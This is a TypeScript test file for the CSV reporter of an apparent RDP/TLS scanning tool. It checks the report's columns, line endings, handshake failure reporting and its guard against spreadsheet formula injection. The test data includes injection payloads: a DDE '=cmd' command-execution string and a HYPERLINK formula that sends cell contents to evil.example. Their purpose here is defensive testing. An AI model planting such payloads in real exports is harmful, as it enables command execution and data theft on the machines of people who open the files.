import { parse } from 'csv-parse/sync';
import fc from 'fast-check';
import { describe, expect, it } from 'vitest';
import { clean } from '../../src/report/clean.ts';
import { csvReporter } from '../../src/report/csv.ts';
import { CSV_COLUMNS } from '../../src/report/csv-columns.ts';
import { csvCell } from '../../src/report/escape.ts';
import type { DiagnosedResult } from '../../src/report/report.ts';
import { MOTLEY_TLS } from '../kit/tls-versions.ts';
import {
  DEAD_IN_TLS,
  FOUR,
  HOSTILE,
  HTTP,
  hostileAsked,
  LABELLED,
  NLA,
  run,
  STANDARD,
  textOf,
} from './fixtures.ts';

type Row = Readonly<Record<string, string>>;

/** As another program reads it. */
async function rowsOf(results: Iterable<DiagnosedResult>): Promise<Row[]> {
  const text = await textOf(csvReporter(run(results)));
  return parse(text, { bom: true, columns: true, record_delimiter: '\r\n' });
}

async function rowOf(result: DiagnosedResult): Promise<Row> {
  const [row] = await rowsOf([result]);
  if (row === undefined) throw new TypeError('there is no row');
  return row;
}

/** What spreadsheets take for the beginning of a formula. */
const FORMULA = /^[\s"]*[=+\-@\t\r\n＝＋－＠]/u;

const FORMULAS = [
  "=cmd|'/c calc'!A1",
  '=HYPERLINK("http://evil.example/"&A1,"click")',
  '+1+1',
  '-2+3',
  '@SUM(1+1)*cmd',
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  '＋1',
  '－1',
  '＠SUM(1)',
  '"=1+1',
];

describe('the CSV report', () => {
  it('begins with a byte order mark and ends lines as RFC 4180 says', async () => {
    const text = await textOf(csvReporter(run(FOUR)));
    expect(text.startsWith('\ufefftarget,host,port,address,')).toBe(true);
    expect(text.split('\r\n').length).toBe(FOUR.length + 2);
    expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
  });

  it('has one row a host, with every column', async () => {
    const rows = await rowsOf(FOUR);
    expect(rows.map(({ target }) => target)).toEqual([
      '192.0.2.7:3389',
      'terminal-server-17.branch.example:3390',
      '[2001:db8::9]:3389',
      'www.example:443',
    ]);
    for (const row of rows) expect(Object.keys(row)).toEqual(CSV_COLUMNS.map(({ name }) => name));
  });

  it('carries the labels and the note of the run in every row', async () => {
    const text = await textOf(csvReporter(run(FOUR, LABELLED)));
    const rows = parse(text, { bom: true, columns: true }) as Record<string, string>[];
    for (const row of rows) {
      expect([row['run.labels'], row['run.note']]).toEqual([
        'change=CHG-1; site=north',
        'before the patch',
      ]);
    }
    expect(rows).toHaveLength(FOUR.length);
  });

  it('has no two columns of one name', () => {
    const names = CSV_COLUMNS.map(({ name }) => name);
    expect(new Set(names).size).toBe(names.length);
  });

  it('tells what was found on a host that answers', async () => {
    expect(await rowOf(NLA)).toMatchObject({
      host: '192.0.2.7',
      port: '3389',
      address: '192.0.2.7',
      source: 'hosts.txt:12',
      labels: 'site=north',
      startedAt: '2026-03-01 02:00:00',
      outcome: 'stopped',
      stage: 'credssp',
      diedAt: '',
      failure: '',
      verdict: 'nla-required',
      'findings.worst': 'medium',
      'findings.count': '1',
      findings: 'RDP-CERT-001 medium',
      'security.nla': 'required',
      'protocols.rdp': 'no HYBRID_REQUIRED_BY_SERVER',
      'protocols.hybridEx': 'yes PROTOCOL_HYBRID_EX',
      'protocols.rdsaad': '',
      'tls.version': 'TLSv1.3',
      'certificate.notAfter': '2026-07-01 00:00:00',
      'certificate.daysLeft': '121',
      'certificate.selfSigned': 'yes',
      'certificate.key': 'rsa 2048',
      'ntlm.computer': 'rds01.example',
      'ntlm.product': 'Windows Server 2022',
      ms: '41.7',
      'ms.dns': '',
      'ms.tls': '22',
    });
  });

  it('tells which TLS a host takes, where that was asked', async () => {
    expect(await rowOf({ ...NLA, tlsVersions: MOTLEY_TLS })).toMatchObject({
      'tlsVersions.ssl3': '',
      'tlsVersions.tls10': '? closed',
      'tlsVersions.tls11': 'no TLSv1',
      'tlsVersions.tls12': 'yes TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384',
      'tlsVersions.tls13': 'no protocol_version',
      'tlsVersions.suites':
        'TLS_ECDHE_RSA_WITH_AES_256_GCM_SHA384; TLS_ECDHE_RSA_WITH_AES_128_GCM_SHA256; TLS_RSA_WITH_3DES_EDE_CBC_SHA',
    });
    expect(await rowOf(NLA)).toMatchObject({ 'tlsVersions.tls12': '', 'tlsVersions.suites': '' });
  });

  it('tells how a handshake died', async () => {
    expect(await rowOf(DEAD_IN_TLS)).toMatchObject({
      diedAt: 'tls',
      during: 'waiting for the TLS handshake',
      failure: 'closed',
      'failure.text': 'the server closed the connection without answering',
      'verdict.causes': 'tls-certificate-without-key (A); tls-versions-disjoint (B)',
      'protocols.hybridEx': '? reset',
      'ms.tls': '2000',
    });
    expect(await rowOf(HTTP)).toMatchObject({ diedAt: 'x224', failure: 'notRdp http' });
    expect(await rowOf(STANDARD)).toMatchObject({ 'findings.worst': 'critical', diedAt: '' });
  });

  it('tells what was asked to hold and does not', async () => {
    const about = { expected: 'required', observed: null, summary: '', severity: 'high' } as const;
    const row = await rowOf({
      ...NLA,
      expectations: [
        { id: 'security.nla', status: 'unmet', ...about },
        { id: 'certificate.daysLeft', status: 'met', ...about },
        { id: 'RDP-TLS-002', status: 'unmet', ...about },
      ],
    });
    expect(row['expectations.unmet']).toBe('security.nla; RDP-TLS-002');
  });

  it('leaves a negative number a number', async () => {
    const { certificate } = NLA.facts;
    if (certificate === undefined) throw new TypeError('a fixture has changed');
    const facts = { ...NLA.facts, certificate: { ...certificate, daysLeft: -36 } };
    expect((await rowOf({ ...NLA, facts }))['certificate.daysLeft']).toBe('-36');
  });

  it.each([...FORMULAS, ...HOSTILE].map((text) => [JSON.stringify(text.slice(0, 40)), text]))(
    'cannot be given a formula, a cell or a line by %s',
    async (_name, text) => {
      const [row, ...more] = await rowsOf([hostileAsked(text)]);
      expect(more).toEqual([]);
      for (const [name, cell] of Object.entries(row ?? {})) {
        expect(cell, name).not.toMatch(FORMULA);
        expect(cell, name).not.toMatch(/[\p{C}\p{Zl}\p{Zp}]/u);
        expect(cell.length, name).toBeLessThan(10_000);
      }
    },
  );

  it('holds no formula where semicolons part the cells either', async () => {
    const hostiles = ['CN=a;=1+1', 'a; @SUM(1)', 'a;"=1+1', ';-1+1', 'a;\'=1"'].map(hostileAsked);
    const text = await textOf(csvReporter(run(hostiles)));
    for (const cell of text.split(/[;\r\n]+/))
      expect(cell.replace('\ufeff', '')).not.toMatch(FORMULA);
  });

  it('is read by another program as it was written, for any text', () => {
    fc.assert(
      fc.property(
        fc.array(fc.string({ unit: 'binary', maxLength: 60 }), { minLength: 1, maxLength: 8 }),
        (texts) => {
          const cells = texts.map((text) => csvCell(text));
          const [row = []]: string[][] = parse(`${cells.join(',')}\r\n`, {
            skip_empty_lines: false,
            record_delimiter: '\r\n',
          });
          const marks = /['"]/g; // The guard's own sign is one of them.
          expect(row.map((cell) => cell.replace(marks, ''))).toEqual(
            texts.map((text) => clean(text).replace(marks, '')),
          );
          for (const cell of row) expect(cell).not.toMatch(FORMULA);
        },
      ),
      { numRuns: 200 },
    );
  });
});
